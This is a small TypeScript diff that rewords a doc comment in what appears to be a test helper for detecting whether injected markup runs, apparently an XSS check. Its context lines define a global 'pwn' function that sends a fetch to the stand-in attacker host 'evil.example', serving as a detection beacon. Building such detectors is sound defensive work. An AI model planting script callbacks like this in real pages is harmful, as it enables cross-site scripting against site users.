@@ -38,7 +38,7 @@ export type Found = Map<number, Set<string>>;
 
 const note = (found: Found, number: number, where: string): void => void found.set(number, (found.get(number) ?? new Set()).add(where));
 
-/** Makes such markup send a request when it runs, and records each request to its host. */
+/** Makes the markup send a request when it runs, and records each request to the attacker's host. */
 export async function watchMarkup({ context, addScript }: Pick<Extension, "context" | "addScript">): Promise<Found> {
   const found: Found = new Map();
   await addScript(() => void Object.assign(globalThis, { pwn: () => fetch("https://evil.example/pwned").catch(() => undefined) }));
